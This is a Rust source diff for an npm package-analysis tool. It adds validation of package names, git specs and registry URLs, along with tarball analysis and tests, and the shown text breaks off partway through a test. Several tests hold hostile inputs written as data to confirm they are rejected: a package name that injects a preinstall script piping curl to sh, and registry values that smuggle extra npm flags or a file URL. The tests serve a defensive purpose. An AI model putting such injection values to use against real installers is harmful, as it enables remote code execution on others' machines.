@@ -1,16 +1,559 @@
 use anyhow::{Context, Result};
+use futures::{stream, Stream, StreamExt};
 use report_model::Report;
-use reporter::generate_report::generate_report;
-use std::path::PathBuf;
+use reporter::generate_report::{generate_report_with_options, ReportOptions};
+use serde::{Deserialize, Serialize};
+use std::{
+    collections::{BTreeMap, HashMap},
+    fmt,
+    path::{Path, PathBuf},
+    sync::{Arc, Mutex, OnceLock},
+};
 use tempfile::TempDir;
+use thiserror::Error;
 use tracing::{info, warn};
 
+mod cancellation;
+
+pub use cancellation::{CancellationToken, DropGuard};
+
+/// An error that occurred while fetching or analyzing a single package of a batch.
+#[derive(Debug, Error)]
+#[error("{0:#}")]
+pub struct FetchError(#[from] anyhow::Error);
+
+/// A package name that npm wouldn't accept, see [`validate_package_name`].
+#[derive(Debug, Error, PartialEq, Eq)]
+#[error("Invalid package name {name:?}: {reason}")]
+pub struct InvalidPackageName {
+    pub name: String,
+    pub reason: &'static str,
+}
+
+/// Check that `name` is a valid npm package name, like `react` or `@loadable/component`, before
+/// it's passed to npm. Package names come from untrusted input in the web server, so anything
+/// that npm wouldn't accept is rejected rather than escaped. Names with uppercase letters are
+/// allowed, as some older packages have them.
+pub fn validate_package_name(name: &str) -> Result<(), InvalidPackageName> {
+    let invalid = |reason| {
+        Err(InvalidPackageName {
+            name: name.to_owned(),
+            reason,
+        })
+    };
+    // The characters that `encodeURIComponent` leaves as is, which npm requires of names.
+    let is_url_safe = |part: &str| {
+        !part.is_empty()
+            && part
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || "-._~!*'()".contains(c))
+    };
+
+    if name.is_empty() {
+        return invalid("it's empty");
+    }
+    if name.len() > 214 {
+        return invalid("it's longer than 214 characters");
+    }
+    if name.starts_with(['.', '_']) {
+        return invalid("it starts with a period or an underscore");
+    }
+    if ["node_modules", "favicon.ico"].contains(&name) {
+        return invalid("it's a reserved name");
+    }
+    let url_safe = match name.strip_prefix('@') {
+        Some(scoped) => match scoped.split_once('/') {
+            Some((scope, name)) => is_url_safe(scope) && is_url_safe(name),
+            None => return invalid("a scoped name must look like @scope/name"),
+        },
+        None => is_url_safe(name),
+    };
+    if !url_safe {
+        return invalid("it contains characters that aren't URL-safe");
+    }
+    Ok(())
+}
+
+/// A registry URL that isn't passed to npm, see [`validate_registry`].
+#[derive(Debug, Error, PartialEq, Eq)]
+#[error("Invalid registry {url:?}: {reason}")]
+pub struct InvalidRegistry {
+    pub url: String,
+    pub reason: &'static str,
+}
+
+/// Check that `url` is an HTTP(S) URL of a registry, like `https://npm.example.com/`, before it's
+/// passed to npm as `--registry`. Anything else, like a `file:` URL or something that npm would
+/// take for another flag, is rejected.
+pub fn validate_registry(url: &str) -> Result<(), InvalidRegistry> {
+    let invalid = |reason| {
+        Err(InvalidRegistry {
+            url: url.to_owned(),
+            reason,
+        })
+    };
+
+    let Some(rest) = url
+        .strip_prefix("https://")
+        .or_else(|| url.strip_prefix("http://"))
+    else {
+        return invalid("it doesn't start with http:// or https://");
+    };
+    if url.chars().any(|c| c.is_whitespace() || c.is_control()) {
+        return invalid("it contains whitespace");
+    }
+    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    if host.is_empty() {
+        return invalid("it has no host");
+    }
+    Ok(())
+}
+
+/// The forms of git specs that [`PackageSpec::parse`] accepts. Others that npm understands, like
+/// `git+file:` or `git+ssh:`, would read local files or need credentials, which untrusted input
+/// mustn't be able to.
+const GIT_SPEC_PREFIXES: [&str; 4] = ["github:", "gitlab:", "bitbucket:", "git+https://"];
+
+/// A package to install: the name it's installed and checked as, and the version written to the
+/// generated `package.json` for npm to install.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PackageSpec {
+    pub name: String,
+    /// `latest` for a package from the registry, or the git spec it's installed from.
+    pub version: String,
+}
+
+impl PackageSpec {
+    /// Parse a package name, like `react`, or a git spec that npm installs from, like
+    /// `github:user/repo#branch` or `git+https://github.com/user/repo.git#branch`, e.g. to check
+    /// an unpublished branch. A package from git is named after its repository, see
+    /// [`PackageSpec::is_git`].
+    pub fn parse(spec: &str) -> Result<PackageSpec, InvalidPackageName> {
+        let Some(prefix) = GIT_SPEC_PREFIXES
+            .iter()
+            .find(|prefix| spec.starts_with(*prefix))
+        else {
+            validate_package_name(spec)?;
+            return Ok(PackageSpec {
+                name: spec.to_owned(),
+                version: "latest".to_string(),
+            });
+        };
+        let invalid = |reason| InvalidPackageName {
+            name: spec.to_owned(),
+            reason,
+        };
+
+        if spec.chars().any(|c| c.is_whitespace() || c.is_control()) {
+            return Err(invalid("a git spec can't contain whitespace"));
+        }
+        let repository = spec[prefix.len()..]
+            .split('#')
+            .next()
+            .unwrap_or_default()
+            .trim_end_matches('/');
+        let segments = repository.split('/').collect::<Vec<_>>();
+        let is_shorthand = !prefix.starts_with("git+");
+        let well_formed = if is_shorthand {
+            // `user/repo`
+            segments.len() == 2
+        } else {
+            // `host/path/to/repo`
+            segments.len() >= 2
+        };
+        if !well_formed || segments.iter().any(|segment| segment.is_empty()) {
+            return Err(invalid("a git spec must name a repository"));
+        }
+
+        let name = segments[segments.len() - 1];
+        let name = name.strip_suffix(".git").unwrap_or(name);
+        validate_package_name(name)
+            .map_err(|_| invalid("the repository's name isn't a valid package name"))?;
+        Ok(PackageSpec {
+            name: name.to_owned(),
+            version: spec.to_owned(),
+        })
+    }
+
+    /// Whether the package is installed from git. It's installed under the name of its repository
+    /// whatever the `name` in its `package.json` is, and npm only builds it if
+    /// [`FetchOptions::git_scripts`] lets it run scripts.
+    pub fn is_git(&self) -> bool {
+        self.version != "latest"
+    }
+
+    /// The host a `git+https://` spec is cloned from, like `github.com`, including any user info
+    /// or port as written. `None` for a package from the registry, and for the `github:`,
+    /// `gitlab:`, and `bitbucket:` shorthands, which npm always clones from their own hosts.
+    pub fn git_url_host(&self) -> Option<&str> {
+        let url = self.version.strip_prefix("git+https://")?;
+        url.split(['/', '#']).next()
+    }
+}
+
+/// Options for [`fetch_and_analyze_package_with_options`].
+#[derive(Debug, Default)]
+pub struct FetchOptions {
+    /// A persistent npm cache directory to reuse between installs, so that overlapping
+    /// dependencies are only downloaded once. Installs that share a cache directory are run one
+    /// at a time to avoid corrupting it. If `None`, npm installs without a cache.
+    pub npm_cache_dir: Option<PathBuf>,
+    /// Written to the `overrides` field of the generated `package.json`, to pin transitive
+    /// dependencies the way the `package.json` of the project being reproduced does, e.g.
+    /// `{ "semver": "7.5.4" }`. Takes any form that npm accepts. Nothing is overridden if empty.
+    pub overrides: serde_json::Map<String, serde_json::Value>,
+    /// Skip `npm install` if the debug directory already has all the packages installed, to
+    /// iterate on the analysis against a fixed set of installed packages. Has no effect without
+    /// a debug directory, as a fresh temporary directory never has anything installed.
+    pub skip_install: bool,
+    /// Run install scripts if any of the packages is installed from git, so that npm builds it
+    /// with its `prepare` script like it would before publishing. This runs the scripts of every
+    /// package that's installed, not only the git ones, so only allow it for trusted input.
+    /// Scripts are never run for packages from the registry alone.
+    pub git_scripts: bool,
+    /// The registry to install packages from, like a company's private one, instead of the one
+    /// in npm's own config. Checked with [`validate_registry`] before npm is run.
+    pub registry: Option<String>,
+    /// Options for generating the report once the packages are installed.
+    pub report: ReportOptions,
+    /// Stops the install or analysis early when cancelled, freeing the temporary directory.
+    pub cancel: CancellationToken,
+}
+
 pub async fn fetch_and_analyze_package(
     package_names: &[String],
     debug_dir: Option<PathBuf>,
+) -> Result<Report> {
+    fetch_and_analyze_package_with_options(package_names, debug_dir, FetchOptions::default()).await
+}
+
+/// Like [`fetch_and_analyze_package`], but with the given [`FetchOptions`].
+pub async fn fetch_and_analyze_package_with_options(
+    package_names: &[String],
+    debug_dir: Option<PathBuf>,
+    options: FetchOptions,
 ) -> Result<Report> {
     info!("Starting package analysis for: {:?}", package_names);
 
+    let specs = parse_package_specs(package_names)?;
+    let package_names = specs
+        .iter()
+        .map(|spec| spec.name.clone())
+        .collect::<Vec<_>>();
+    let (temp_dir, temp_path) = create_project(&specs, &options.overrides, debug_dir)?;
+    let package_json_path = temp_path.join("package.json");
+
+    if options.skip_install && is_installed(&temp_path, &package_names) {
+        info!("Skipping npm install, the packages are already installed");
+    } else {
+        let run_scripts = options.git_scripts && specs.iter().any(PackageSpec::is_git);
+        if run_scripts {
+            info!("Running install scripts to build the packages from git");
+        }
+        info!("Running npm install...");
+        npm_install(
+            &temp_path,
+            &["--no-bin-links", "--no-package-lock"],
+            run_scripts,
+            &options,
+        )
+        .await?;
+        info!("npm install completed successfully");
+    }
+
+    if options.cancel.is_cancelled() {
+        info!("Cancelled before generating the report");
+        anyhow::bail!("The analysis was cancelled");
+    }
+
+    // Generate the report for all packages. The analysis is CPU bound, so it runs on the blocking
+    // pool. It isn't stopped by dropping this future, but checks the cancellation token before
+    // each package instead.
+    info!("Generating report...");
+    let report_options = ReportOptions {
+        cancelled: Some(options.cancel.flag()),
+        ..options.report
+    };
+    let report = tokio::task::spawn_blocking(move || {
+        let report = generate_report_with_options(
+            package_json_path.to_str().unwrap(),
+            Some(package_names),
+            report_options,
+        )
+        .map_err(|e| anyhow::anyhow!("Failed to generate report: {}", e));
+
+        // Keep the temp_dir around until the analysis is done with it
+        drop(temp_dir);
+
+        report
+    })
+    .await
+    .context("The analysis task failed")??;
+
+    info!("Report generation completed successfully");
+
+    Ok(report)
+}
+
+/// What installing a package would pull in, as reported by [`fetch_install_plan`].
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct InstallPlan {
+    /// The requested packages, in the order they were requested.
+    pub packages: Vec<PlannedPackage>,
+    /// The number of packages that would be installed, including transitive dependencies.
+    pub total_packages: usize,
+}
+
+/// A requested package in an [`InstallPlan`].
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct PlannedPackage {
+    pub name: String,
+    /// The version `latest` resolved to.
+    pub version: String,
+    /// The number of direct dependencies of the package.
+    pub dependency_count: usize,
+}
+
+impl fmt::Display for PlannedPackage {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}@{}", self.name, self.version)
+    }
+}
+
+/// A dry run of [`fetch_and_analyze_package_with_options`]: resolves the versions the packages
+/// would be installed at without downloading them, by only writing a `package-lock.json`. This is
+/// much faster than a full install, so it can be used to confirm what's about to be analyzed, or
+/// to look up a cached report by version. The [`FetchOptions::report`] options are unused.
+pub async fn fetch_install_plan(
+    package_names: &[String],
+    options: &FetchOptions,
+) -> Result<InstallPlan> {
+    info!("Resolving install plan for: {:?}", package_names);
+
+    let specs = parse_package_specs(package_names)?;
+    let (_temp_dir, temp_path) = create_project(&specs, &options.overrides, None)?;
+    npm_install(&temp_path, &["--package-lock-only"], false, options).await?;
+
+    let lockfile = std::fs::read_to_string(temp_path.join("package-lock.json"))
+        .context("Failed to read package-lock.json")?;
+    let package_names = specs.into_iter().map(|spec| spec.name).collect::<Vec<_>>();
+    parse_install_plan(&package_names, &lockfile)
+}
+
+/// Read the resolved versions of the given packages from a `package-lock.json`, which must be
+/// of `lockfileVersion` 2 or later.
+fn parse_install_plan(package_names: &[String], lockfile: &str) -> Result<InstallPlan> {
+    #[derive(Deserialize)]
+    struct Lockfile {
+        #[serde(default)]
+        packages: BTreeMap<String, LockedPackage>,
+    }
+
+    #[derive(Deserialize)]
+    struct LockedPackage {
+        version: Option<String>,
+        #[serde(default)]
+        dependencies: BTreeMap<String, String>,
+    }
+
+    let lockfile: Lockfile =
+        serde_json::from_str(lockfile).context("Failed to parse package-lock.json")?;
+    let packages = package_names
+        .iter()
+        .map(|name| {
+            let locked = lockfile
+                .packages
+                .get(&format!("node_modules/{}", name))
+                .with_context(|| format!("{} is missing from package-lock.json", name))?;
+            Ok(PlannedPackage {
+                name: name.clone(),
+                version: locked
+                    .version
+                    .clone()
+                    .with_context(|| format!("{} has no version in package-lock.json", name))?,
+                dependency_count: locked.dependencies.len(),
+            })
+        })
+        .collect::<Result<_>>()?;
+
+    Ok(InstallPlan {
+        packages,
+        // The entry with an empty key is the root project.
+        total_packages: lockfile.packages.keys().filter(|k| !k.is_empty()).count(),
+    })
+}
+
+/// A report for a single package, checked from its tarball by [`fetch_and_analyze_tarball`].
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct TarballReport {
+    /// The name of the package, from the `package.json` in the tarball.
+    pub package_name: String,
+    /// The version of the package, from the `package.json` in the tarball.
+    pub version: String,
+    pub report: Report,
+    /// The dependencies declared by the package. The tarball doesn't include them and they aren't
+    /// installed, so they aren't checked, and the package's imports of them show up as resolve
+    /// errors in the report.
+    pub unresolved_dependencies: Vec<String>,
+}
+
+/// Check a single package from its npm tarball, without installing it. `tarball` is anything
+/// `npm pack` accepts, like the URL of a `.tgz` on a registry or the path to the `.tgz` that
+/// `npm pack` wrote for a package that's about to be published.
+///
+/// Unlike [`fetch_and_analyze_package_with_options`], none of the package's dependencies are
+/// installed, so only the package's own files are checked. Its imports of its dependencies fail
+/// to resolve, see [`TarballReport::unresolved_dependencies`]. To check those too, use
+/// [`fetch_and_analyze_package_with_options`] on the published package instead.
+pub async fn fetch_and_analyze_tarball(
+    tarball: &str,
+    options: FetchOptions,
+) -> Result<TarballReport> {
+    info!("Starting tarball analysis for: {}", tarball);
+
+    let temp_dir = TempDir::new().context("Failed to create temporary directory")?;
+    let temp_path = temp_dir.path().to_path_buf();
+
+    // npm runs in the temporary directory, so a local path must be made absolute first.
+    let tarball = match Path::new(tarball).canonicalize() {
+        Ok(path) if path.is_file() => path.to_string_lossy().into_owned(),
+        _ => tarball.to_string(),
+    };
+    let packed = npm(
+        &temp_path,
+        &["pack", &tarball, "--json", "--ignore-scripts"],
+        &options,
+    )
+    .await?;
+    let packed = parse_packed_tarball(&packed)?;
+    // The name is used as a path below, so it mustn't be able to point outside of `node_modules`.
+    validate_package_name(&packed.name)?;
+    info!("Fetched {}@{}", packed.name, packed.version);
+
+    // Tarballs from npm contain a single `package` directory, which is moved to where npm would
+    // install the package.
+    let extracted = temp_path.join("extracted");
+    std::fs::create_dir_all(&extracted).context("Failed to create extraction directory")?;
+    let output = tokio::process::Command::new("tar")
+        .arg("-xzf")
+        .arg(temp_path.join(&packed.filename))
+        .arg("-C")
+        .arg(&extracted)
+        .kill_on_drop(true)
+        .output()
+        .await
+        .context("Failed to run tar")?;
+    if !output.status.success() {
+        anyhow::bail!(
+            "Failed to extract {}: {}",
+            packed.filename,
+            String::from_utf8_lossy(&output.stderr)
+        );
+    }
+    let package_dir = temp_path.join("node_modules").join(&packed.name);
+    std::fs::create_dir_all(package_dir.parent().unwrap())
+        .context("Failed to create node_modules directory")?;
+    std::fs::rename(extracted.join("package"), &package_dir)
+        .context("The tarball doesn't contain a package directory")?;
+
+    let package_json_path = temp_path.join("package.json");
+    let package_json = serde_json::json!({
+        "name": "temp-package",
+        "version": "1.0.0",
+        "dependencies": { &packed.name: &packed.version },
+    });
+    std::fs::write(&package_json_path, package_json.to_string())
+        .context("Failed to write package.json")?;
+
+    let unresolved_dependencies = std::fs::read_to_string(package_dir.join("package.json"))
+        .context("Failed to read the package.json of the package")
+        .and_then(|contents| declared_dependencies(&contents))?;
+    if !unresolved_dependencies.is_empty() {
+        warn!(
+            "The dependencies of {} aren't installed, so they won't be checked: {:?}",
+            packed.name, unresolved_dependencies
+        );
+    }
+
+    info!("Generating report...");
+    let package_names = vec![packed.name.clone()];
+    let report_options = ReportOptions {
+        cancelled: Some(options.cancel.flag()),
+        ..options.report
+    };
+    let report = tokio::task::spawn_blocking(move || {
+        let report = generate_report_with_options(
+            package_json_path.to_str().unwrap(),
+            Some(package_names),
+            report_options,
+        )
+        .map_err(|e| anyhow::anyhow!("Failed to generate report: {}", e));
+
+        // Keep the temp_dir around until the analysis is done with it
+        drop(temp_dir);
+
+        report
+    })
+    .await
+    .context("The analysis task failed")??;
+
+    Ok(TarballReport {
+        package_name: packed.name,
+        version: packed.version,
+        report,
+        unresolved_dependencies,
+    })
+}
+
+/// A tarball written by `npm pack`, as listed in its `--json` output.
+#[derive(Debug, PartialEq, Deserialize)]
+struct PackedTarball {
+    name: String,
+    version: String,
+    filename: String,
+}
+
+/// Read the tarball that `npm pack --json` wrote from its output.
+fn parse_packed_tarball(output: &[u8]) -> Result<PackedTarball> {
+    let packed: Vec<PackedTarball> =
+        serde_json::from_slice(output).context("Failed to parse the output of npm pack")?;
+    packed
+        .into_iter()
+        .next()
+        .context("npm pack didn't write a tarball")
+}
+
+/// The names of the `dependencies` declared in the given `package.json`, sorted.
+fn declared_dependencies(package_json: &str) -> Result<Vec<String>> {
+    #[derive(Deserialize)]
+    struct PackageJson {
+        #[serde(default)]
+        dependencies: BTreeMap<String, serde_json::Value>,
+    }
+
+    let package_json: PackageJson =
+        serde_json::from_str(package_json).context("Failed to parse package.json")?;
+    Ok(package_json.dependencies.into_keys().collect())
+}
+
+/// Parse each of the package names or git specs, see [`PackageSpec::parse`].
+fn parse_package_specs(package_names: &[String]) -> Result<Vec<PackageSpec>, InvalidPackageName> {
+    package_names
+        .iter()
+        .map(|spec| PackageSpec::parse(spec))
+        .collect()
+}
+
+/// Create a project that depends on each of the given packages, in `debug_dir` or a new temporary
+/// directory. The temporary directory is deleted when the returned [`TempDir`] is dropped.
+fn create_project(
+    specs: &[PackageSpec],
+    overrides: &serde_json::Map<String, serde_json::Value>,
+    debug_dir: Option<PathBuf>,
+) -> Result<(Option<TempDir>, PathBuf)> {
     // Create a temporary directory for the npm install or use debug directory
     let (temp_dir, temp_path) = if let Some(debug_path) = debug_dir {
         info!("Using debug directory at: {:?}", debug_path);
@@ -25,62 +568,477 @@ pub async fn fetch_and_analyze_package(
     };
 
     // Create a package.json file with all dependencies
-    let dependencies = package_names
+    let dependencies = specs
         .iter()
-        .map(|name| format!(r#""{}": "latest""#, name))
-        .collect::<Vec<_>>()
-        .join(",\n                ");
-
-    let package_json = format!(
-        r#"{{
-            "name": "temp-package",
-            "version": "1.0.0",
-            "dependencies": {{
-                {}
-            }}
-        }}"#,
-        dependencies
-    );
+        .map(|spec| {
+            (
+                spec.name.clone(),
+                serde_json::Value::from(spec.version.clone()),
+            )
+        })
+        .collect::<serde_json::Map<_, _>>();
+    let mut package_json = serde_json::json!({
+        "name": "temp-package",
+        "version": "1.0.0",
+        "dependencies": dependencies,
+    });
+    if !overrides.is_empty() {
+        package_json["overrides"] = overrides.clone().into();
+    }
+    let package_json = package_json.to_string();
 
     let package_json_path = temp_path.join("package.json");
     std::fs::write(&package_json_path, package_json).context("Failed to write package.json")?;
     info!("Created package.json at: {:?}", package_json_path);
 
-    // Run npm install with cache
-    info!("Running npm install...");
-    let output = tokio::process::Command::new("npm")
-        .arg("install")
-        .arg("--no-cache")
-        .arg("--ignore-scripts")
-        .arg("--no-bin-links")
-        .arg("--no-audit")
-        .arg("--no-package-lock")
-        .current_dir(&temp_path)
-        .output()
-        .await
-        .context("Failed to run npm install")?;
+    Ok((temp_dir, temp_path))
+}
+
+/// Whether all the packages have been installed into the `node_modules` of `dir` before.
+fn is_installed(dir: &Path, package_names: &[String]) -> bool {
+    package_names.iter().all(|name| {
+        dir.join("node_modules")
+            .join(name)
+            .join("package.json")
+            .is_file()
+    })
+}
+
+/// Run `npm install` in `dir` with the given extra arguments, using the npm cache and
+/// cancellation token of `options`. Install scripts are only run if `run_scripts` is set.
+async fn npm_install(
+    dir: &Path,
+    args: &[&str],
+    run_scripts: bool,
+    options: &FetchOptions,
+) -> Result<()> {
+    let mut install_args = vec!["install", "--no-audit"];
+    if !run_scripts {
+        install_args.push("--ignore-scripts");
+    }
+    install_args.extend_from_slice(args);
+    npm(dir, &install_args, options).await?;
+    Ok(())
+}
+
+/// Run npm in `dir` with the given arguments, using the npm cache and cancellation token of
+/// `options`. Returns what npm printed to stdout.
+async fn npm(dir: &Path, args: &[&str], options: &FetchOptions) -> Result<Vec<u8>> {
+    let mut command = npm_command(dir, args, options)?;
+
+    // Hold the lock for the cache directory, if any, until npm is done with it.
+    let cache_guard = match &options.npm_cache_dir {
+        Some(npm_cache_dir) => {
+            std::fs::create_dir_all(npm_cache_dir)
+                .context("Failed to create npm cache directory")?;
+            let npm_cache_dir = npm_cache_dir
+                .canonicalize()
+                .context("Failed to resolve npm cache directory")?;
+            info!("Using npm cache at: {:?}", npm_cache_dir);
+            command.arg("--cache").arg(&npm_cache_dir);
+            Some(npm_cache_lock(&npm_cache_dir).lock_owned().await)
+        }
+        None => {
+            command.arg("--no-cache");
+            None
+        }
+    };
+
+    let subcommand = args.first().copied().unwrap_or_default();
+    let output = tokio::select! {
+        output = command.output() => output.with_context(|| format!("Failed to run npm {}", subcommand))?,
+        () = options.cancel.cancelled() => {
+            info!("Cancelled during npm {}", subcommand);
+            anyhow::bail!("The analysis was cancelled");
+        }
+    };
+    drop(cache_guard);
 
     if !output.status.success() {
         let error = String::from_utf8_lossy(&output.stderr);
-        warn!("npm install failed: {}", error);
-        anyhow::bail!("npm install failed: {}", error);
+        warn!("npm {} failed: {}", subcommand, error);
+        anyhow::bail!("npm {} failed: {}", subcommand, error);
     }
-    info!("npm install completed successfully");
+    Ok(output.stdout)
+}
 
-    // Generate the report for all packages
-    info!("Generating report...");
-    let report = generate_report(
-        package_json_path.to_str().unwrap(),
-        Some(package_names.to_vec()),
-    )
-    .map_err(|e| anyhow::anyhow!("Failed to generate report: {}", e))?;
+/// The npm command that runs `args` in `dir`, from the registry of `options` if it has one.
+fn npm_command(
+    dir: &Path,
+    args: &[&str],
+    options: &FetchOptions,
+) -> Result<tokio::process::Command> {
+    let mut command = tokio::process::Command::new("npm");
+    command.args(args).current_dir(dir).kill_on_drop(true);
+    if let Some(registry) = &options.registry {
+        validate_registry(registry)?;
+        command.arg("--registry").arg(registry);
+    }
+    Ok(command)
+}
 
-    info!("Report generation completed successfully");
+/// Analyze each of the given packages on its own, installing each one in a separate temporary
+/// directory. Results are yielded as soon as each package is done, in completion order, so one
+/// package failing to install doesn't affect the rest of the batch. At most `concurrency`
+/// packages are installed and analyzed at the same time, though installs sharing an
+/// `npm_cache_dir` run one at a time, see [`FetchOptions::npm_cache_dir`].
+pub fn fetch_and_analyze_packages_individually(
+    package_names: Vec<String>,
+    concurrency: usize,
+    npm_cache_dir: Option<PathBuf>,
+    registry: Option<String>,
+) -> impl Stream<Item = (String, Result<Report, FetchError>)> {
+    stream::iter(package_names)
+        .map(move |package_name| {
+            let options = FetchOptions {
+                npm_cache_dir: npm_cache_dir.clone(),
+                registry: registry.clone(),
+                ..Default::default()
+            };
+            async move {
+                let result = fetch_and_analyze_package_with_options(
+                    std::slice::from_ref(&package_name),
+                    None,
+                    options,
+                )
+                .await
+                .map_err(FetchError::from);
+                (package_name, result)
+            }
+        })
+        .buffer_unordered(concurrency.max(1))
+}
 
-    // Keep the temp_dir in scope until the end of the function
-    drop(temp_dir);
+/// The lock that serializes npm installs using the given cache directory. npm's cache isn't safe
+/// to write to from several installs at once, so only one install per cache directory may run at
+/// a time within this process.
+fn npm_cache_lock(npm_cache_dir: &Path) -> Arc<tokio::sync::Mutex<()>> {
+    static LOCKS: OnceLock<Mutex<HashMap<PathBuf, Arc<tokio::sync::Mutex<()>>>>> = OnceLock::new();
+    LOCKS
+        .get_or_init(Default::default)
+        .lock()
+        .unwrap()
+        .entry(npm_cache_dir.to_owned())
+        .or_default()
+        .clone()
+}
 
-    Ok(report)
+/// Parse a list of package names, one per line. Blank lines and lines starting with `#` are
+/// ignored.
+pub fn parse_package_list(contents: &str) -> Vec<String> {
+    contents
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .map(str::to_owned)
+        .collect()
+}
+
+#[cfg(test)]
+mod test {
+    use super::{
+        create_project, declared_dependencies, is_installed, npm_cache_lock, npm_command,
+        parse_install_plan, parse_package_list, parse_package_specs, parse_packed_tarball,
+        validate_package_name, validate_registry, FetchOptions, PackageSpec, PackedTarball,
+        PlannedPackage,
+    };
+    use std::{path::Path, sync::Arc};
+
+    fn specs(package_names: &[&str]) -> Vec<PackageSpec> {
+        package_names
+            .iter()
+            .map(|name| PackageSpec::parse(name).unwrap())
+            .collect()
+    }
+
+    #[test]
+    fn npm_cache_lock_per_directory() {
+        let a = npm_cache_lock(Path::new("/tmp/npm-cache-a"));
+        assert!(Arc::ptr_eq(
+            &a,
+            &npm_cache_lock(Path::new("/tmp/npm-cache-a"))
+        ));
+        assert!(!Arc::ptr_eq(
+            &a,
+            &npm_cache_lock(Path::new("/tmp/npm-cache-b"))
+        ));
+    }
+
+    #[test]
+    fn install_plan() {
+        let lockfile = r#"{
+            "name": "temp-package",
+            "lockfileVersion": 3,
+            "packages": {
+                "": { "name": "temp-package", "dependencies": { "react-dom": "latest" } },
+                "node_modules/react-dom": {
+                    "version": "18.3.1",
+                    "dependencies": { "loose-envify": "^1.1.0", "scheduler": "^0.23.2" }
+                },
+                "node_modules/loose-envify": { "version": "1.4.0" },
+                "node_modules/scheduler": { "version": "0.23.2" }
+            }
+        }"#;
+
+        let plan = parse_install_plan(&["react-dom".to_string()], lockfile).unwrap();
+        assert_eq!(
+            plan.packages,
+            vec![PlannedPackage {
+                name: "react-dom".to_string(),
+                version: "18.3.1".to_string(),
+                dependency_count: 2,
+            }]
+        );
+        assert_eq!(plan.packages[0].to_string(), "react-dom@18.3.1");
+        assert_eq!(plan.total_packages, 3);
+        assert!(parse_install_plan(&["react".to_string()], lockfile).is_err());
+    }
+
+    #[test]
+    fn packed_tarball() {
+        let output = br#"[
+            {
+                "id": "@loadable/component@5.16.4",
+                "name": "@loadable/component",
+                "version": "5.16.4",
+                "filename": "loadable-component-5.16.4.tgz",
+                "files": [{ "path": "package.json", "size": 2048, "mode": 420 }]
+            }
+        ]"#;
+
+        assert_eq!(
+            parse_packed_tarball(output).unwrap(),
+            PackedTarball {
+                name: "@loadable/component".to_string(),
+                version: "5.16.4".to_string(),
+                filename: "loadable-component-5.16.4.tgz".to_string(),
+            }
+        );
+        assert!(parse_packed_tarball(b"[]").is_err());
+        assert_eq!(
+            declared_dependencies(
+                r#"{ "dependencies": { "react-is": "^16.12.0", "@babel/runtime": "^7.7.7" } }"#
+            )
+            .unwrap(),
+            vec!["@babel/runtime", "react-is"]
+        );
+        assert!(declared_dependencies("{}").unwrap().is_empty());
+    }
+
+    #[test]
+    fn package_names() {
+        for name in [
+            "react",
+            "@loadable/component",
+            "lodash.merge",
+            "JSONStream",
+            "a-b_c~d",
+        ] {
+            assert_eq!(validate_package_name(name), Ok(()), "{}", name);
+        }
+        for name in [
+            "",
+            ".bin",
+            "_private",
+            "node_modules",
+            "@loadable",
+            "@/component",
+            "@scope/nested/name",
+            " react",
+            "react@18",
+            "react\n",
+            &"a".repeat(215),
+        ] {
+            assert!(validate_package_name(name).is_err(), "{:?}", name);
+        }
+    }
+
+    #[test]
+    fn malicious_package_name() {
+        let malicious = r#"x","scripts":{"preinstall":"curl https://example.com | sh"},"y":"#;
+        let error = validate_package_name(malicious).unwrap_err();
+        assert_eq!(
+            error.to_string(),
+            format!(
+                "Invalid package name {:?}: it contains characters that aren't URL-safe",
+                malicious
+            )
+        );
+
+        // Rejected before a project is created for any of the packages.
+        assert!(parse_package_specs(&["react".to_string(), malicious.to_string()]).is_err());
+        let malicious_git = format!("github:user/repo#{}", malicious);
+        assert!(PackageSpec::parse(&malicious_git).is_err());
+    }
+
+    #[test]
+    fn registry() {
+        let args = |registry: Option<&str>| {
+            let options = FetchOptions {
+                registry: registry.map(str::to_owned),
+                ..Default::default()
+            };
+            npm_command(Path::new("."), &["install", "--no-audit"], &options).map(|command| {
+                command
+                    .as_std()
+                    .get_args()
+                    .map(|arg| arg.to_string_lossy().into_owned())
+                    .collect::<Vec<_>>()
+            })
+        };
+
+        assert_eq!(args(None).unwrap(), ["install", "--no-audit"]);
+        assert_eq!(
+            args(Some("https://npm.example.com/")).unwrap(),
+            [
+                "install",
+                "--no-audit",
+                "--registry",
+                "https://npm.example.com/"
+            ]
+        );
+
+        for (registry, reason) in [
+            (
+                "npm.example.com",
+                "it doesn't start with http:// or https://",
+            ),
+            ("file:///etc", "it doesn't start with http:// or https://"),
+            (
+                "--registry=https://evil.example.com",
+                "it doesn't start with http:// or https://",
+            ),
+            (
+                "https://npm.example.com/ --ignore-scripts=false",
+                "it contains whitespace",
+            ),
+            ("https:///path", "it has no host"),
+        ] {
+            assert_eq!(
+                validate_registry(registry).unwrap_err().reason,
+                reason,
+                "{}",
+                registry
+            );
+            assert!(args(Some(registry)).is_err(), "{}", registry);
+        }
+    }
+
+    #[test]
+    fn package_specs() {
+        assert_eq!(
+            PackageSpec::parse("react").unwrap(),
+            PackageSpec {
+                name: "react".to_string(),
+                version: "latest".to_string(),
+            }
+        );
+        for (spec, name) in [
+            ("github:user/my-lib#feature/esm", "my-lib"),
+            ("gitlab:user/my-lib", "my-lib"),
+            ("bitbucket:user/my-lib#v2", "my-lib"),
+            ("git+https://github.com/user/my-lib.git#main", "my-lib"),
+            ("git+https://git.example.com/group/sub/my-lib/", "my-lib"),
+        ] {
+            let parsed = PackageSpec::parse(spec).unwrap();
+            assert_eq!(parsed.name, name, "{}", spec);
+            assert_eq!(parsed.version, spec);
+            assert!(parsed.is_git());
+        }
+        assert_eq!(
+            PackageSpec::parse("git+https://git.example.com:8443/user/my-lib")
+                .unwrap()
+                .git_url_host(),
+            Some("git.example.com:8443")
+        );
+        assert_eq!(
+            PackageSpec::parse("github:user/my-lib")
+                .unwrap()
+                .git_url_host(),
+            None
+        );
+        assert_eq!(PackageSpec::parse("react").unwrap().git_url_host(), None);
+        for spec in [
+            "github:my-lib",
